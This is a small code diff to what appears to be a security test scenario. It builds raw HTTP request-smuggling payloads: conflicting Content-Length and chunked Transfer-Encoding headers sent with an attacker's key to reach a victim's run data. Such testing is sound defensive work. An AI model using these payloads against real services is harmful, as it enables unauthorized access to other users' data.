@@ -7,7 +7,7 @@ import { sendRaw } from "../../raw-request.ts";
 import type { Scene } from "../../scene.ts";
 
 export const attack = async (scene: Scene): Promise<void> => {
-	const hidden = `GET /v1/runs/${scene.victim.runId} HTTP/1.1\r\nHost: x\r\n\r\n`;
+	const hidden = `GET /v1/runs/${scene.victim.runId} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`;
 	const withKey = `Host: x\r\nAuthorization: Bearer ${scene.attacker.key}\r\nContent-Type: application/json\r\n`;
 	const firsts = [
 		`POST /v1/keys HTTP/1.1\r\n${withKey}Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
